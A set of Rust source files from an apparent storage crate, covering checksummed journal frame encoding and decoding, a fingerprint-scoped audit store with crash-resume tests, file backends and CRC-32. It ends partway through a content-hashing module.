pub const FRAME_HEADER_LEN: usize = 4 + 4 + 2 + 8;

/// Fixed bytes after the payload: the checksum.
pub const FRAME_TRAILER_LEN: usize = 4;

/// Payloads above this are rejected as corruption rather than attempted —
/// a flipped bit in the length field must not make replay try to allocate
/// gigabytes.
pub const MAX_PAYLOAD: usize = 1 << 28;

/// One journal record: a kind tag, a caller-defined key (unit index,
/// content-hash prefix, …), and an opaque payload.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Frame {
    /// What kind of pipeline unit this frame records.
    pub kind: u16,
    /// Caller-defined key, unique per (kind, unit).
    pub key: u64,
    /// Opaque payload bytes (the caller owns serialization).
    pub payload: Vec<u8>,
}

impl Frame {
    /// A frame with the given tag, key, and payload.
    pub fn new(kind: u16, key: u64, payload: Vec<u8>) -> Frame {
        Frame { kind, key, payload }
    }

    /// Total encoded size.
    pub fn encoded_len(&self) -> usize {
        FRAME_HEADER_LEN + self.payload.len() + FRAME_TRAILER_LEN
    }

    /// Encode into a fresh buffer.
    pub fn encode(&self) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.encoded_len());
        out.extend_from_slice(&FRAME_MAGIC);
        out.extend_from_slice(&(self.payload.len() as u32).to_le_bytes());
        out.extend_from_slice(&self.kind.to_le_bytes());
        out.extend_from_slice(&self.key.to_le_bytes());
        out.extend_from_slice(&self.payload);
        let mut crc = Crc32::new();
        crc.update(&self.kind.to_le_bytes());
        crc.update(&self.key.to_le_bytes());
        crc.update(&self.payload);
        out.extend_from_slice(&crc.finish().to_le_bytes());
        out
    }
}

/// Why decoding stopped before the end of the buffer.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum StopReason {
    /// The buffer ended exactly on a frame boundary.
    CleanEnd,
    /// Trailing bytes were too short to hold a full frame (torn write).
    Truncated,
    /// A complete-looking record failed its magic, bounds, or checksum.
    Corrupt,
}

/// The result of decoding a journal buffer.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Decoded {
    /// Every frame of the longest valid prefix, in write order.
    pub frames: Vec<Frame>,
    /// Byte length of that prefix — where recovery truncates to.
    pub valid_bytes: usize,
    /// Why the walk stopped.
    pub stop: StopReason,
}

/// Decode the longest valid prefix of `buf`. Never panics; tolerates any
/// byte sequence.
pub fn decode_all(buf: &[u8]) -> Decoded {
    let mut frames = Vec::new();
    let mut off = 0usize;
    loop {
        let rest = &buf[off..];
        if rest.is_empty() {
            return Decoded {
                frames,
                valid_bytes: off,
                stop: StopReason::CleanEnd,
            };
        }
        if rest.len() < FRAME_HEADER_LEN {
            return Decoded {
                frames,
                valid_bytes: off,
                stop: StopReason::Truncated,
            };
        }
        if rest[..4] != FRAME_MAGIC {
            return Decoded {
                frames,
                valid_bytes: off,
                stop: StopReason::Corrupt,
            };
        }
        let len = u32::from_le_bytes(rest[4..8].try_into().expect("four bytes")) as usize;
        if len > MAX_PAYLOAD {
            return Decoded {
                frames,
                valid_bytes: off,
                stop: StopReason::Corrupt,
            };
        }
        let total = FRAME_HEADER_LEN + len + FRAME_TRAILER_LEN;
        if rest.len() < total {
            return Decoded {
                frames,
                valid_bytes: off,
                stop: StopReason::Truncated,
            };
        }
        let kind = u16::from_le_bytes(rest[8..10].try_into().expect("two bytes"));
        let key = u64::from_le_bytes(rest[10..18].try_into().expect("eight bytes"));
        let payload = &rest[FRAME_HEADER_LEN..FRAME_HEADER_LEN + len];
        let stored = u32::from_le_bytes(rest[total - 4..total].try_into().expect("four bytes"));
        let mut crc = Crc32::new();
        crc.update(&rest[8..10]);
        crc.update(&rest[10..18]);
        crc.update(payload);
        if crc.finish() != stored {
            return Decoded {
                frames,
                valid_bytes: off,
                stop: StopReason::Corrupt,
            };
        }
        frames.push(Frame {
            kind,
            key,
            payload: payload.to_vec(),
        });
        off += total;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Vec<Frame> {
        vec![
            Frame::new(1, 0, b"header".to_vec()),
            Frame::new(3, 42, vec![]),
            Frame::new(4, 7, vec![0xff; 300]),
        ]
    }

    fn encode_all(frames: &[Frame]) -> Vec<u8> {
        frames.iter().flat_map(|f| f.encode()).collect()
    }

    #[test]
    fn roundtrip() {
        let frames = sample();
        let buf = encode_all(&frames);
        let decoded = decode_all(&buf);
        assert_eq!(decoded.frames, frames);
        assert_eq!(decoded.valid_bytes, buf.len());
        assert_eq!(decoded.stop, StopReason::CleanEnd);
    }

    #[test]
    fn empty_buffer_is_clean() {
        let d = decode_all(&[]);
        assert!(d.frames.is_empty());
        assert_eq!(d.stop, StopReason::CleanEnd);
    }

    #[test]
    fn torn_tail_recovers_prefix() {
        let frames = sample();
        let buf = encode_all(&frames);
        let second_end = frames[0].encoded_len() + frames[1].encoded_len();
        for cut in second_end + 1..buf.len() {
            let d = decode_all(&buf[..cut]);
            assert_eq!(d.frames.len(), 2, "cut at {cut}");
            assert_eq!(d.valid_bytes, second_end);
            assert_eq!(d.stop, StopReason::Truncated);
        }
    }

    #[test]
    fn bit_flip_detected() {
        let frames = sample();
        let buf = encode_all(&frames);
        let first_len = frames[0].encoded_len();
        // Flip every bit of the middle frame: decode must stop after the
        // first frame (never panic, never mis-accept).
        let second_len = frames[1].encoded_len();
        for i in first_len..first_len + second_len {
            let mut broken = buf.clone();
            broken[i] ^= 0x40;
            let d = decode_all(&broken);
            assert_eq!(d.frames.first(), frames.first(), "flip at {i}");
            assert!(
                d.frames.len() <= 1,
                "flip at {i} yielded {} frames",
                d.frames.len()
            );
            assert_eq!(d.valid_bytes, first_len, "flip at {i}");
        }
    }

    #[test]
    fn absurd_length_is_corruption_not_allocation() {
        let mut frame = Frame::new(1, 1, b"x".to_vec()).encode();
        frame[4..8].copy_from_slice(&u32::MAX.to_le_bytes());
        let d = decode_all(&frame);
        assert!(d.frames.is_empty());
        assert_eq!(d.stop, StopReason::Corrupt);
    }

    #[test]
    fn garbage_is_rejected_at_zero() {
        let d = decode_all(b"not a journal at all, just bytes......");
        assert!(d.frames.is_empty());
        assert_eq!(d.valid_bytes, 0);
        assert_eq!(d.stop, StopReason::Corrupt);
    }
}
