//! The audit store: one journal + one artifact cache under a run identity.
//!
//! [`AuditStore`] is what the pipeline holds. It scopes the write-ahead
//! journal to a *fingerprint* — a caller-computed digest of seed and
//! configuration — so frames from an incompatible earlier run are never
//! replayed into the wrong world: on open, a journal whose header frame
//! disagrees with the requested fingerprint is discarded (the artifact
//! pack, being content-addressed, always survives and simply misses).
//!
//! The store also hosts the crash lever the resumability tests lean on:
//! [`AuditStore::set_kill_after`] arms a frame budget, and the append that
//! would exceed it fails with [`StoreError::Interrupted`] instead of
//! writing — from the pipeline's point of view, the process died right
//! there, except the test harness gets to keep the handle and resume.

use crate::backend::Backend;
use crate::cache::{ArtifactCache, CacheSnapshot};
use crate::frame::Frame;
use crate::hash::ContentHash;
use crate::journal::Journal;
use std::collections::{BTreeMap, BTreeSet};
use std::fmt;
use std::io;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

/// Journal file name inside a store directory.
pub const JOURNAL_FILE: &str = "journal.wal";
/// Artifact pack file name inside a store directory.
pub const PACK_FILE: &str = "artifacts.pack";

/// Reserved frame kind for the run-header frame the store writes itself.
pub const K_RUN_HEADER: u16 = 0x0001;

/// Store operation failure.
#[derive(Debug)]
pub enum StoreError {
    /// The armed kill switch fired: the frame was *not* written.
    Interrupted,
    /// The backend failed.
    Io(io::Error),
}

impl fmt::Display for StoreError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            StoreError::Interrupted => f.write_str("store kill switch fired"),
            StoreError::Io(e) => write!(f, "store backend error: {e}"),
        }
    }
}

impl std::error::Error for StoreError {}

impl From<io::Error> for StoreError {
    fn from(e: io::Error) -> StoreError {
        StoreError::Io(e)
    }
}

/// Durability counters, reported alongside the pipeline's cache stats.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct StoreStats {
    /// Frames appended to the journal by this handle.
    pub frames_written: u64,
    /// Frames recovered from the journal at open.
    pub frames_replayed: u64,
    /// Artifact lookups served from the pack.
    pub artifact_hits: u64,
    /// Artifact lookups that missed (and were computed + stored).
    pub artifact_misses: u64,
}

/// Journal + artifact cache, scoped to one run fingerprint.
pub struct AuditStore {
    journal: Journal,
    artifacts: ArtifactCache,
    fingerprint: u64,
    /// Units recovered at open, keyed by (kind, key). Later frames win so a
    /// unit re-recorded after partial corruption replays its newest copy.
    replayed: Mutex<BTreeMap<(u16, u64), Vec<u8>>>,
    /// Every artifact address this handle touched (get, peek, or put) —
    /// the liveness census longitudinal compaction keeps per epoch.
    touched: Mutex<BTreeSet<ContentHash>>,
    /// Appends allowed before [`StoreError::Interrupted`]; `u64::MAX` = off.
    kill_after: AtomicU64,
}

impl AuditStore {
    /// Open a store on `backend` for the run identified by `fingerprint`.
    ///
    /// With `resume` the existing journal is replayed — unless its header
    /// frame carries a different fingerprint, in which case it is discarded
    /// (resuming someone else's run would be corruption, not convenience).
    /// Without `resume` the journal always starts empty. The artifact pack
    /// is opened as-is in both cases.
    pub fn open(
        backend: Arc<dyn Backend>,
        fingerprint: u64,
        resume: bool,
    ) -> Result<AuditStore, StoreError> {
        let artifacts = ArtifactCache::open(backend.clone(), PACK_FILE)?;
        let (journal, replayed) = if resume {
            let (journal, replay) = Journal::open(backend.clone(), JOURNAL_FILE)?;
            let compatible = replay
                .frames
                .first()
                .map(|f| {
                    f.kind == K_RUN_HEADER
                        && f.payload.len() >= 8
                        && u64::from_le_bytes(f.payload[..8].try_into().expect("eight bytes"))
                            == fingerprint
                })
                .unwrap_or(false);
            if compatible {
                let mut map = BTreeMap::new();
                for Frame { kind, key, payload } in replay.frames {
                    map.insert((kind, key), payload);
                }
                (journal, map)
            } else {
                (Journal::open_fresh(backend, JOURNAL_FILE)?, BTreeMap::new())
            }
        } else {
            (Journal::open_fresh(backend, JOURNAL_FILE)?, BTreeMap::new())
        };

        let store = AuditStore {
            journal,
            artifacts,
            fingerprint,
            replayed: Mutex::new(replayed),
            touched: Mutex::new(BTreeSet::new()),
            kill_after: AtomicU64::new(u64::MAX),
        };
        // A fresh journal gets its header frame immediately, so even a run
        // killed after zero units resumes against the right identity.
        if store.lookup_unit(K_RUN_HEADER, 0).is_none() {
            store
                .journal
                .append(K_RUN_HEADER, 0, fingerprint.to_le_bytes().to_vec())?;
        }
        Ok(store)
    }

    /// The run identity this store was opened for.
    pub fn fingerprint(&self) -> u64 {
        self.fingerprint
    }

    /// The payload of a unit recovered at open (or recorded earlier in this
    /// process), if any.
    pub fn lookup_unit(&self, kind: u16, key: u64) -> Option<Vec<u8>> {
        self.replayed
            .lock()
            .expect("replay map lock")
            .get(&(kind, key))
            .cloned()
    }

    /// Durably record a completed unit. Honors the kill switch: once the
    /// armed budget is exhausted, nothing is written and the caller sees
    /// [`StoreError::Interrupted`] — the simulated crash point.
    pub fn record_unit(&self, kind: u16, key: u64, payload: Vec<u8>) -> Result<(), StoreError> {
        if self.journal.frames_written() >= self.kill_after.load(Ordering::Relaxed) {
            return Err(StoreError::Interrupted);
        }
        self.journal.append(kind, key, payload.clone())?;
        self.replayed
            .lock()
            .expect("replay map lock")
            .insert((kind, key), payload);
        Ok(())
    }

    /// Look up an analysis artifact by content address.
    pub fn artifact_get(&self, hash: &ContentHash) -> Option<Vec<u8>> {
        self.touch(hash);
        self.artifacts.get(hash)
    }

    /// Look up an artifact without counting a hit or miss — for side caches
    /// whose reuse is reported on a dedicated counter, keeping
    /// [`StoreStats::artifact_hits`]/[`StoreStats::artifact_misses`] an
    /// exact census of per-bot analyses.
    pub fn artifact_peek(&self, hash: &ContentHash) -> Option<Vec<u8>> {
        self.touch(hash);
        self.artifacts.peek(hash)
    }

    /// Store an analysis artifact (idempotent, not subject to the kill
    /// switch — artifacts are pure content, the journal is the commit
    /// point).
    pub fn artifact_put(&self, hash: ContentHash, blob: &[u8]) -> Result<(), StoreError> {
        self.touch(&hash);
        Ok(self.artifacts.put(hash, blob)?)
    }

    fn touch(&self, hash: &ContentHash) {
        self.touched.lock().expect("touched set lock").insert(*hash);
    }

    /// Every artifact address this handle referenced, sorted and
    /// deduplicated. A run that completes through one handle therefore
    /// reports the full set of pack keys it depends on — what the epoch
    /// chain records so generational compaction never drops a live blob.
    pub fn referenced_keys(&self) -> Vec<ContentHash> {
        self.touched
            .lock()
            .expect("touched set lock")
            .iter()
            .copied()
            .collect()
    }

    /// Compact the artifact pack down to `live` addresses.
    pub fn compact_artifacts(&self, live: &[ContentHash]) -> Result<usize, StoreError> {
        Ok(self.artifacts.compact(live)?)
    }

    /// Current artifact pack shape.
    pub fn artifact_snapshot(&self) -> CacheSnapshot {
        self.artifacts.snapshot()
    }

    /// Allow `frames` more journal appends, then fail with
    /// [`StoreError::Interrupted`]. The budget counts appends made through
    /// this handle (the header frame of a fresh store has already spent
    /// one by the time a caller can arm the switch).
    pub fn set_kill_after(&self, frames: u64) {
        self.kill_after.store(frames, Ordering::Relaxed);
    }

    /// Disarm the kill switch (the "restarted process" half of a test).
    pub fn clear_kill(&self) {
        self.kill_after.store(u64::MAX, Ordering::Relaxed);
    }

    /// Durability counters.
    pub fn stats(&self) -> StoreStats {
        StoreStats {
            frames_written: self.journal.frames_written(),
            frames_replayed: self.journal.frames_replayed(),
            artifact_hits: self.artifacts.hits(),
            artifact_misses: self.artifacts.misses(),
        }
    }
}

impl fmt::Debug for AuditStore {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("AuditStore")
            .field("fingerprint", &self.fingerprint)
            .field("stats", &self.stats())
            .finish()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::backend::MemBackend;

    fn mem() -> Arc<MemBackend> {
        Arc::new(MemBackend::new())
    }

    #[test]
    fn units_survive_reopen_with_resume() {
        let backend = mem();
        let store = AuditStore::open(backend.clone(), 99, false).unwrap();
        store.record_unit(3, 0, b"unit zero".to_vec()).unwrap();
        store.record_unit(3, 1, b"unit one".to_vec()).unwrap();
        drop(store);

        let store = AuditStore::open(backend.clone(), 99, true).unwrap();
        assert_eq!(store.lookup_unit(3, 0).as_deref(), Some(&b"unit zero"[..]));
        assert_eq!(store.lookup_unit(3, 1).as_deref(), Some(&b"unit one"[..]));
        assert_eq!(store.stats().frames_replayed, 3); // header + 2 units

        // Without resume, history is gone (but the store works).
        let store = AuditStore::open(backend, 99, false).unwrap();
        assert_eq!(store.lookup_unit(3, 0), None);
    }

    #[test]
    fn fingerprint_mismatch_discards_journal() {
        let backend = mem();
        let store = AuditStore::open(backend.clone(), 1, false).unwrap();
        store.record_unit(3, 0, b"world one".to_vec()).unwrap();
        drop(store);

        let store = AuditStore::open(backend, 2, true).unwrap();
        assert_eq!(
            store.lookup_unit(3, 0),
            None,
            "foreign frames must not replay"
        );
        assert_eq!(store.stats().frames_replayed, 0);
    }

    #[test]
    fn kill_switch_interrupts_and_resume_continues() {
        let backend = mem();
        let store = AuditStore::open(backend.clone(), 5, false).unwrap();
        store.set_kill_after(3); // header already wrote 1: two units fit
        store.record_unit(3, 0, b"a".to_vec()).unwrap();
        store.record_unit(3, 1, b"b".to_vec()).unwrap();
        let err = store.record_unit(3, 2, b"c".to_vec()).unwrap_err();
        assert!(matches!(err, StoreError::Interrupted));
        assert_eq!(store.stats().frames_written, 3);

        let store = AuditStore::open(backend, 5, true).unwrap();
        assert!(store.lookup_unit(3, 1).is_some());
        assert_eq!(store.lookup_unit(3, 2), None);
        store.record_unit(3, 2, b"c".to_vec()).unwrap();
        assert!(store.lookup_unit(3, 2).is_some());
    }

    #[test]
    fn artifacts_survive_fresh_journal() {
        let backend = mem();
        let store = AuditStore::open(backend.clone(), 7, false).unwrap();
        let h = ContentHash::of(b"bot content");
        store.artifact_put(h, b"analysis blob").unwrap();
        drop(store);

        // Fresh (non-resume) run: journal empty, pack warm.
        let store = AuditStore::open(backend, 7, false).unwrap();
        assert_eq!(
            store.artifact_get(&h).as_deref(),
            Some(&b"analysis blob"[..])
        );
        assert_eq!(store.stats().artifact_hits, 1);
    }

    #[test]
    fn referenced_keys_census_every_touched_address() {
        let backend = mem();
        let store = AuditStore::open(backend, 7, false).unwrap();
        let put = ContentHash::of(b"computed");
        let hit = ContentHash::of(b"warm");
        let peeked = ContentHash::of(b"side-cache");
        let missed = ContentHash::of(b"absent");
        store.artifact_put(hit, b"warm blob").unwrap();
        store.artifact_put(put, b"fresh blob").unwrap();
        assert!(store.artifact_get(&hit).is_some());
        assert!(store.artifact_peek(&peeked).is_none());
        assert!(store.artifact_get(&missed).is_none());
        // Gets, peeks, and puts all count — even ones that missed, since a
        // miss that is then computed + put resolves to the same address —
        // and repeats deduplicate.
        assert!(store.artifact_get(&hit).is_some());
        let keys = store.referenced_keys();
        let mut expected = vec![put, hit, peeked, missed];
        expected.sort();
        assert_eq!(keys, expected);
    }

    #[test]
    fn compaction_reports_snapshot() {
        let backend = mem();
        let store = AuditStore::open(backend, 7, false).unwrap();
        let live = ContentHash::of(b"live");
        store.artifact_put(live, b"keep").unwrap();
        store
            .artifact_put(ContentHash::of(b"dead"), b"drop")
            .unwrap();
        assert_eq!(store.artifact_snapshot().entries, 2);
        assert_eq!(store.compact_artifacts(&[live]).unwrap(), 1);
        assert_eq!(store.artifact_snapshot().entries, 1);
    }
}
