//! Storage backends: where journal and pack bytes actually live.
//!
//! One narrow trait covers both the hermetic in-memory backend (tests,
//! examples, fault-injection wrappers) and the real on-disk backend, so
//! every layer above — journal, artifact cache, the resumable pipeline —
//! is backend-agnostic. The trait is deliberately file-shaped rather than
//! key-value-shaped: the journal needs *append* as a first-class, cheap
//! operation, and recovery needs *atomic whole-file replace* (write to a
//! side location, then swing over) so a crash during compaction or
//! truncation can never destroy the previous good state.

use std::collections::BTreeMap;
use std::io;
use std::path::PathBuf;
use std::sync::Mutex;

/// A named-file store. Implementations must be safe to share across the
/// pipeline's worker threads.
pub trait Backend: Send + Sync {
    /// Full contents of `name`, or `None` when it does not exist.
    fn read(&self, name: &str) -> io::Result<Option<Vec<u8>>>;

    /// Replace `name` with `bytes` atomically: after a crash, a reader sees
    /// either the old contents or the new, never a mix.
    fn write_atomic(&self, name: &str, bytes: &[u8]) -> io::Result<()>;

    /// Append `bytes` to `name`, creating it if missing.
    fn append(&self, name: &str, bytes: &[u8]) -> io::Result<()>;

    /// Remove `name` (no-op when absent).
    fn remove(&self, name: &str) -> io::Result<()>;
}

/// Hermetic in-memory backend: a locked map of named byte buffers.
#[derive(Default)]
pub struct MemBackend {
    files: Mutex<BTreeMap<String, Vec<u8>>>,
}

impl MemBackend {
    /// An empty backend.
    pub fn new() -> MemBackend {
        MemBackend::default()
    }

    /// Names currently stored (tests want to look inside).
    pub fn names(&self) -> Vec<String> {
        self.files
            .lock()
            .expect("mem backend lock")
            .keys()
            .cloned()
            .collect()
    }

    /// Overwrite raw bytes directly — the corruption tests' scalpel.
    pub fn poke(&self, name: &str, bytes: Vec<u8>) {
        self.files
            .lock()
            .expect("mem backend lock")
            .insert(name.to_string(), bytes);
    }
}

impl Backend for MemBackend {
    fn read(&self, name: &str) -> io::Result<Option<Vec<u8>>> {
        Ok(self
            .files
            .lock()
            .expect("mem backend lock")
            .get(name)
            .cloned())
    }

    fn write_atomic(&self, name: &str, bytes: &[u8]) -> io::Result<()> {
        self.files
            .lock()
            .expect("mem backend lock")
            .insert(name.to_string(), bytes.to_vec());
        Ok(())
    }

    fn append(&self, name: &str, bytes: &[u8]) -> io::Result<()> {
        self.files
            .lock()
            .expect("mem backend lock")
            .entry(name.to_string())
            .or_default()
            .extend_from_slice(bytes);
        Ok(())
    }

    fn remove(&self, name: &str) -> io::Result<()> {
        self.files.lock().expect("mem backend lock").remove(name);
        Ok(())
    }
}

/// On-disk backend rooted at a directory. Appends go straight to the file;
/// atomic writes go through a `.tmp` sibling plus rename, the standard
/// crash-safe replace on POSIX filesystems.
pub struct DiskBackend {
    root: PathBuf,
    // Appends from multiple pipeline workers interleave at the OS level;
    // one lock per backend keeps each logical append contiguous.
    io_lock: Mutex<()>,
}

impl DiskBackend {
    /// Open (creating if needed) a store directory.
    pub fn open(root: impl Into<PathBuf>) -> io::Result<DiskBackend> {
        let root = root.into();
        std::fs::create_dir_all(&root)?;
        Ok(DiskBackend {
            root,
            io_lock: Mutex::new(()),
        })
    }

    /// The directory this backend writes under.
    pub fn root(&self) -> &std::path::Path {
        &self.root
    }

    fn path(&self, name: &str) -> PathBuf {
        self.root.join(name)
    }

    /// Scoped backends produce names like `<tenant>/journal`; the write
    /// paths must materialize those intermediate directories or every
    /// scoped operation fails with `NotFound`.
    fn ensure_parent(&self, path: &std::path::Path) -> io::Result<()> {
        match path.parent() {
            Some(parent) if parent != self.root => std::fs::create_dir_all(parent),
            _ => Ok(()),
        }
    }
}

impl Backend for DiskBackend {
    fn read(&self, name: &str) -> io::Result<Option<Vec<u8>>> {
        let _io = self.io_lock.lock().expect("disk backend lock");
        match std::fs::read(self.path(name)) {
            Ok(bytes) => Ok(Some(bytes)),
            Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(None),
            Err(e) => Err(e),
        }
    }

    fn write_atomic(&self, name: &str, bytes: &[u8]) -> io::Result<()> {
        let _io = self.io_lock.lock().expect("disk backend lock");
        let tmp = self.path(&format!("{name}.tmp"));
        self.ensure_parent(&tmp)?;
        std::fs::write(&tmp, bytes)?;
        std::fs::rename(&tmp, self.path(name))
    }

    fn append(&self, name: &str, bytes: &[u8]) -> io::Result<()> {
        use std::io::Write;
        let _io = self.io_lock.lock().expect("disk backend lock");
        let path = self.path(name);
        self.ensure_parent(&path)?;
        let mut file = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(path)?;
        file.write_all(bytes)
    }

    fn remove(&self, name: &str) -> io::Result<()> {
        let _io = self.io_lock.lock().expect("disk backend lock");
        match std::fs::remove_file(self.path(name)) {
            Ok(()) => Ok(()),
            Err(e) if e.kind() == io::ErrorKind::NotFound => Ok(()),
            Err(e) => Err(e),
        }
    }
}

/// A view of another backend under a name prefix.
///
/// The fleet service gives every tenant its own journal and artifact pack
/// inside one shared root backend by scoping each tenant's store to
/// `<tenant>/`. Scoping is pure name translation — reads and writes pass
/// straight through — so the crash-safety guarantees of the inner backend
/// are untouched.
pub struct ScopedBackend {
    inner: std::sync::Arc<dyn Backend>,
    prefix: String,
}

impl ScopedBackend {
    /// Scope `inner` under `prefix` (a `/` separator is inserted).
    pub fn new(inner: std::sync::Arc<dyn Backend>, prefix: impl Into<String>) -> ScopedBackend {
        ScopedBackend {
            inner,
            prefix: prefix.into(),
        }
    }

    fn scoped(&self, name: &str) -> String {
        format!("{}/{name}", self.prefix)
    }
}

impl Backend for ScopedBackend {
    fn read(&self, name: &str) -> io::Result<Option<Vec<u8>>> {
        self.inner.read(&self.scoped(name))
    }

    fn write_atomic(&self, name: &str, bytes: &[u8]) -> io::Result<()> {
        self.inner.write_atomic(&self.scoped(name), bytes)
    }

    fn append(&self, name: &str, bytes: &[u8]) -> io::Result<()> {
        self.inner.append(&self.scoped(name), bytes)
    }

    fn remove(&self, name: &str) -> io::Result<()> {
        self.inner.remove(&self.scoped(name))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn exercise(backend: &dyn Backend) {
        assert_eq!(backend.read("a").unwrap(), None);
        backend.append("a", b"one").unwrap();
        backend.append("a", b"two").unwrap();
        assert_eq!(backend.read("a").unwrap().as_deref(), Some(&b"onetwo"[..]));
        backend.write_atomic("a", b"replaced").unwrap();
        assert_eq!(
            backend.read("a").unwrap().as_deref(),
            Some(&b"replaced"[..])
        );
        backend.remove("a").unwrap();
        assert_eq!(backend.read("a").unwrap(), None);
        backend.remove("a").unwrap(); // idempotent
    }

    #[test]
    fn mem_backend_semantics() {
        exercise(&MemBackend::new());
    }

    #[test]
    fn disk_backend_semantics() {
        let dir = std::env::temp_dir().join(format!("store-backend-test-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let backend = DiskBackend::open(&dir).unwrap();
        exercise(&backend);
        // No stray tmp files after atomic writes.
        backend.write_atomic("b", b"x").unwrap();
        let leftovers: Vec<_> = std::fs::read_dir(&dir)
            .unwrap()
            .filter_map(|e| e.ok())
            .filter(|e| e.file_name().to_string_lossy().ends_with(".tmp"))
            .collect();
        assert!(leftovers.is_empty());
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn scoped_backends_are_disjoint_views() {
        let root = std::sync::Arc::new(MemBackend::new());
        let a = ScopedBackend::new(root.clone(), "tenant-a");
        let b = ScopedBackend::new(root.clone(), "tenant-b");
        exercise(&a);
        a.write_atomic("j", b"alpha").unwrap();
        b.write_atomic("j", b"beta").unwrap();
        assert_eq!(a.read("j").unwrap().as_deref(), Some(&b"alpha"[..]));
        assert_eq!(b.read("j").unwrap().as_deref(), Some(&b"beta"[..]));
        assert_eq!(
            root.names(),
            vec!["tenant-a/j".to_string(), "tenant-b/j".to_string()]
        );
    }

    #[test]
    fn scoped_over_disk_backend_creates_tenant_directories() {
        let dir =
            std::env::temp_dir().join(format!("store-scoped-disk-test-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&dir);
        let root: std::sync::Arc<dyn Backend> =
            std::sync::Arc::new(DiskBackend::open(&dir).unwrap());
        let a = ScopedBackend::new(root.clone(), "tenant-a");
        let b = ScopedBackend::new(root.clone(), "tenant-b");
        // Appends and atomic writes must work on the very first operation,
        // before any tenant directory exists.
        exercise(&a);
        a.append("wal", b"frame").unwrap();
        a.write_atomic("pack", b"artifacts").unwrap();
        b.write_atomic("pack", b"other").unwrap();
        assert_eq!(a.read("wal").unwrap().as_deref(), Some(&b"frame"[..]));
        assert_eq!(a.read("pack").unwrap().as_deref(), Some(&b"artifacts"[..]));
        assert_eq!(b.read("pack").unwrap().as_deref(), Some(&b"other"[..]));
        assert!(dir.join("tenant-a").join("wal").is_file());
        assert!(dir.join("tenant-b").join("pack").is_file());
        std::fs::remove_dir_all(&dir).unwrap();
    }

    #[test]
    fn mem_poke_overwrites() {
        let mem = MemBackend::new();
        mem.append("j", b"abcdef").unwrap();
        mem.poke("j", b"abc".to_vec());
        assert_eq!(mem.read("j").unwrap().as_deref(), Some(&b"abc"[..]));
        assert_eq!(mem.names(), vec!["j".to_string()]);
    }
}
