//! CRC-32 (IEEE 802.3) over byte slices.
//!
//! The journal needs a checksum that detects torn writes and bit flips, is
//! stable across runs and platforms, and costs nothing to verify at replay
//! speed. CRC-32 with the reflected IEEE polynomial is the standard answer
//! (it is what SQLite's WAL and most log-structured stores use); the table
//! is built in a `const` context so the crate stays dependency-free.

/// The reflected IEEE polynomial.
const POLY: u32 = 0xedb8_8320;

/// 256-entry lookup table, one byte of input per step.
const TABLE: [u32; 256] = {
    let mut table = [0u32; 256];
    let mut i = 0;
    while i < 256 {
        let mut crc = i as u32;
        let mut bit = 0;
        while bit < 8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ POLY
            } else {
                crc >> 1
            };
            bit += 1;
        }
        table[i] = crc;
        i += 1;
    }
    table
};

/// CRC-32 of `bytes`, in one shot.
pub fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xffff_ffffu32;
    for &b in bytes {
        crc = (crc >> 8) ^ TABLE[((crc ^ b as u32) & 0xff) as usize];
    }
    !crc
}

/// Incremental CRC-32 for checksumming a frame's header and payload without
/// concatenating them first.
#[derive(Debug, Clone, Copy)]
pub struct Crc32(u32);

impl Crc32 {
    /// A fresh accumulator.
    pub fn new() -> Crc32 {
        Crc32(0xffff_ffff)
    }

    /// Feed more bytes.
    pub fn update(&mut self, bytes: &[u8]) {
        for &b in bytes {
            self.0 = (self.0 >> 8) ^ TABLE[((self.0 ^ b as u32) & 0xff) as usize];
        }
    }

    /// Finish and return the checksum.
    pub fn finish(self) -> u32 {
        !self.0
    }
}

impl Default for Crc32 {
    fn default() -> Self {
        Crc32::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn known_vectors() {
        // The classic check value for CRC-32/IEEE.
        assert_eq!(crc32(b"123456789"), 0xcbf4_3926);
        assert_eq!(crc32(b""), 0);
        assert_eq!(
            crc32(b"The quick brown fox jumps over the lazy dog"),
            0x414f_a339
        );
    }

    #[test]
    fn incremental_matches_oneshot() {
        let data = b"split across several updates";
        let mut acc = Crc32::new();
        acc.update(&data[..5]);
        acc.update(&data[5..9]);
        acc.update(&data[9..]);
        assert_eq!(acc.finish(), crc32(data));
    }

    #[test]
    fn single_bit_flip_changes_checksum() {
        let data = b"frame payload bytes".to_vec();
        let base = crc32(&data);
        for i in 0..data.len() {
            for bit in 0..8 {
                let mut flipped = data.clone();
                flipped[i] ^= 1 << bit;
                assert_ne!(
                    crc32(&flipped),
                    base,
                    "flip at byte {i} bit {bit} undetected"
                );
            }
        }
    }
}
