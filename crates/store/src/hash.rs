//! Content hashing for the artifact cache and run fingerprints.
//!
//! Artifacts are addressed by a 128-bit hash of their canonical input
//! bytes: two FNV-1a-64 lanes with distinct offset bases, each finished
//! with a splitmix-style avalanche so short inputs still diffuse into the
//! high bits. 128 bits keeps accidental collisions out of reach at any
//! population scale this pipeline will see, without pulling in a crypto
//! dependency the simulation does not need (the store trusts its own
//! disk — the checksum layer, not the address, defends integrity).

use std::fmt;

const FNV_PRIME: u64 = 0x0000_0100_0000_01b3;
const OFFSET_A: u64 = 0xcbf2_9ce4_8422_2325;
// Second lane: FNV offset basis XOR a splitmix constant, so the lanes
// disagree from the first byte.
const OFFSET_B: u64 = OFFSET_A ^ 0x9e37_79b9_7f4a_7c15;

fn avalanche(mut x: u64) -> u64 {
    x ^= x >> 30;
    x = x.wrapping_mul(0xbf58_476d_1ce4_e5b9);
